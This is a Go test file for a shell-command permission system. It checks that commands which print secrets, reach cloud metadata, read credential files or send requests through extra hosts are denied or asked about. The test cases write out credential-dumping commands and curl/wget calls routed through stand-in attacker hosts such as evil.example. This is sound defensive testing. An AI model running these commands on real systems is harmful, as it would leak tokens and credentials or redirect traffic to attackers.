package grants

import "testing"

// secretHostTierCases: issue 18 §2 and §3 through the decision: what may
// print secrets is never covered by a '*' (only by its literal text),
// what prints one is denied under any grant, every host a request goes
// to needs its grant, a grant of localhost does not cover a control
// API's port, and the read tier asks for the server credential trees.
var secretHostTierCases = []tierCase{
	// may print secrets: asked under '*', allowed by the exact text
	{name: "kubectl * does not cover a secret's data", cmd: "kubectl get secret db -o yaml", rules: []string{"global allow kubectl *"}, want: Ask, rule: RuleExecCapable},
	{name: "jsonpath of a secret", cmd: "kubectl get secret db -o jsonpath={.data.password}", rules: []string{"global allow kubectl *"}, want: Ask, rule: RuleExecCapable},
	{name: "exact grant covers it", cmd: "kubectl get secret db -o yaml", rules: []string{"global allow kubectl get secret db -o yaml"}, want: Allow},
	{name: "kubectl * still covers listings", cmd: "kubectl get secrets", rules: []string{"global allow kubectl *"}, want: Allow},
	{name: "describe shows sizes only", cmd: "kubectl describe secret db", rules: []string{"global allow kubectl *"}, want: Allow},
	{name: "vault read under vault *", cmd: "vault read secret/db", rules: []string{"global allow vault *"}, want: Ask, rule: RuleExecCapable},
	{name: "aws sts under aws *", cmd: "aws sts get-session-token", rules: []string{"global allow aws *"}, want: Ask, rule: RuleExecCapable},
	{name: "aws s3 ls under aws *", cmd: "aws s3 ls", rules: []string{"global allow aws *"}, want: Allow},
	{name: "git config --get-regexp over credentials", cmd: "git config --get-regexp credential", rules: []string{"global allow git *"}, want: Ask, rule: RuleExecCapable},
	{name: "git config of extraheader", cmd: "git config --get http.extraheader", rules: []string{"global allow git *"}, want: Ask, rule: RuleExecCapable},
	{name: "git config list (2.46)", cmd: "git config list --show-origin", rules: []string{"global allow git *"}, want: Ask, rule: RuleExecCapable},
	{name: "git config list --local", cmd: "git config list --local", rules: []string{"global allow git *"}, want: Allow},
	{name: "git config get --regexp (2.46)", cmd: "git config get --all --regexp ^url", rules: []string{"global allow git *"}, want: Ask, rule: RuleExecCapable},
	{name: "git config of a name", cmd: "git config --get user.name", rules: []string{"global allow git *"}, want: Allow},
	{name: "printenv * does not cover the whole environment", cmd: "printenv", rules: []string{"global allow printenv *"}, want: Ask},
	{name: "set * does not cover set", cmd: "set", rules: []string{"global allow set *"}, want: Ask},
	{name: "terraform output -json", cmd: "terraform output -json", rules: []string{"global allow terraform *"}, want: Ask, rule: RuleExecCapable},
	{name: "terraform output", cmd: "terraform output", rules: []string{"global allow terraform *"}, want: Allow},
	{name: "sops -d", cmd: "sops -d secrets.yaml", rules: []string{"global allow sops *"}, want: Ask, rule: RuleExecCapable},
	{name: "bw list items", cmd: "bw list items", rules: []string{"global allow bw *"}, want: Ask, rule: RuleExecCapable},
	// prints a secret: denied whatever the grant
	{name: "gh * never covers gh auth token", cmd: "gh auth token", rules: []string{"global allow gh *"}, want: Deny, rule: "secret-print"},
	{name: "nor the exact text", cmd: "gh auth token", rules: []string{"global allow gh auth token"}, want: Deny, rule: "secret-print"},
	{name: "gh auth status is fine", cmd: "gh auth status", rules: []string{"global allow gh *"}, want: Allow},
	{name: "printenv of a token", cmd: "printenv GITHUB_TOKEN", rules: []string{"global allow printenv *"}, want: Deny, rule: "secret-print"},
	{name: "metadata under curl *", cmd: "curl -s http://169.254.169.254/latest/meta-data/", rules: []string{"global allow curl *", "project-grants allow [http] 169.254.169.254"}, want: Deny, rule: "cloud-metadata"},
	// every host the request goes to
	{name: "proxy is a host", cmd: "curl -x http://proxy.evil:3128 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork, sug: "[http] proxy.evil"},
	{name: "--url is a host", cmd: "curl --url https://evil.example/ https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork, sug: "[http] evil.example"},
	{name: "--resolve connects elsewhere", cmd: "curl --resolve api.github.com:443:203.0.113.9 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork, sug: "[http] 203.0.113.9"},
	{name: "--connect-to connects elsewhere", cmd: "curl --connect-to api.github.com:443:evil.example:443 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork, sug: "[http] evil.example"},
	{name: "--preproxy", cmd: "curl --preproxy socks5://p.evil https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, sug: "[http] p.evil"},
	{name: "--doh-url", cmd: "curl --doh-url https://doh.evil/q https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, sug: "[http] doh.evil"},
	{name: "every host granted", cmd: "curl -x http://proxy.corp:3128 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com", "project-grants allow [http] proxy.corp"}, want: Allow},
	{name: "wget -e https_proxy", cmd: "wget -e https_proxy=evil.example:3128 https://api.github.com/", rules: []string{"global allow wget *", "project-grants allow [http] api.github.com"}, want: Ask, sug: "[http] evil.example"},
	{name: "npm --proxy is a host", cmd: "npm install --proxy=evil.example:3128", rules: []string{"global allow npm *"}, want: Ask, rule: RuleNetwork, sug: "[http] evil.example"},
	{name: "a proxy variable is a host", cmd: "https_proxy=http://evil.example:3128 curl https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask},
	{name: "an abbreviation of a host option", cmd: "curl --reso api.github.com:443:203.0.113.9 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask},
	{name: "wget -i reads URLs from a file", cmd: "wget -i urls.txt", rules: []string{"global allow wget *"}, want: Ask, rule: RuleNetworkUnseen},
	{name: "gopher asks under curl *", cmd: "curl gopher://localhost:6379/_INFO", rules: []string{"global allow curl *", "project-grants allow [http] localhost"}, want: Ask, rule: "url-scheme"},
	// localhost's control ports
	{name: "localhost grant covers a dev server", cmd: "curl http://localhost:3000/health", rules: []string{"global allow curl *", "project-grants allow [http] localhost"}, want: Allow},
	{name: "localhost grant does not cover docker's API", cmd: "curl http://localhost:2375/containers/json", rules: []string{"global allow curl *", "project-grants allow [http] localhost"}, want: Ask, rule: RuleNetwork, sug: "[http] localhost:2375"},
	{name: "nor redis", cmd: "nc localhost 6379", rules: []string{"global allow nc *", "project-grants allow [http] localhost"}, want: Ask, sug: "[http] localhost:6379"},
	{name: "nor postgres on 127.0.0.1", cmd: "curl http://127.0.0.1:5432/", rules: []string{"global allow curl *", "project-grants allow [http] 127.0.0.1"}, want: Ask, sug: "[http] 127.0.0.1:5432"},
	{name: "a grant of the port covers it", cmd: "curl http://localhost:9200/_cat/indices", rules: []string{"global allow curl *", "project-grants allow [http] localhost:9200"}, want: Allow},
	{name: "connect-to a control port", cmd: "curl --connect-to ::localhost:2375 http://localhost/", rules: []string{"global allow curl *", "project-grants allow [http] localhost"}, want: Ask, sug: "[http] localhost:2375"},
	{name: "a remote host's port is its own", cmd: "curl http://db.example:5432/", rules: []string{"global allow curl *", "project-grants allow [http] db.example"}, want: Allow},
	// the read tier's server credentials
	{name: "rancher tree asks", cmd: "ls /etc/rancher/k3s", want: Ask, rule: RulePathRead, sug: "-"},
	{name: "kubernetes pki asks", cmd: "cat /etc/kubernetes/pki/ca.crt", want: Ask, rule: RulePathRead, sug: "-"},
	{name: "k3s.yaml denied", cmd: "cat /etc/rancher/k3s/k3s.yaml", rules: []string{"global allow cat *"}, want: Deny, rule: "credential-read"},
	{name: "krb5 cache in tmp denied", cmd: "cat /tmp/krb5cc_1000", rules: []string{"global allow cat *"}, want: Deny, rule: "credential-read"},
	{name: "tmp stays readable", cmd: "cat /tmp/build.log", want: Allow},
	{name: "etc stays readable", cmd: "cat /etc/hosts", want: Allow},
	{name: "home outside the allowlist asks", cmd: "cat ~/notes.txt", rules: []string{"global allow cat *"}, want: Ask, rule: RulePathRead},
}

func TestSecretsAndHostsTiers(t *testing.T) {
	for _, tc := range secretHostTierCases {
		t.Run(tc.name, func(t *testing.T) { runTierCase(t, tc) })
	}
}

func TestControlPortEntry(t *testing.T) {
	for in, want := range map[string]string{
		"localhost:6379": "localhost:6379", "localhost:3000": "localhost", "[::1]:2375": "[::1]:2375",
		"127.0.0.1:5432": "127.0.0.1:5432", "db.example:5432": "db.example", "http://localhost:9200/": "localhost:9200",
	} {
		got, err := ValidateTierEntry(TierHTTP, Allow, in)
		if err != nil || got != want {
			t.Errorf("ValidateTierEntry(http, %q) = %q, %v; want %q", in, got, err, want)
		}
	}
}

func TestTreeReadHoldingCredentials(t *testing.T) {
	for _, tc := range []tierCase{
		{name: "grep -r over /etc", cmd: "grep -r password /etc", want: Ask, rule: RulePathRead, sug: "-"},
		{name: "rg over /etc", cmd: "rg PRIVATE /etc", rules: []string{"global allow rg *"}, want: Ask, rule: RulePathRead},
		{name: "grep -r over / reads the home too", cmd: "grep -r x /", want: Deny, rule: "credential-read"},
		{name: "a tree without credentials", cmd: "grep -r worker_processes /etc/nginx", want: Allow},
		{name: "one file under /etc", cmd: "grep -n nameserver /etc/resolv.conf", want: Allow},
		{name: "not recursive", cmd: "grep x /etc/hosts /etc/hostname", want: Allow},
		{name: "a user's ask entry inside the tree", cmd: "grep -r x /srv/data", rules: []string{"project-grants allow [read] /srv/data", "global ask [read] /srv/data/keys"}, want: Ask, rule: RulePathRead},
	} {
		t.Run(tc.name, func(t *testing.T) { runTierCase(t, tc) })
	}
}
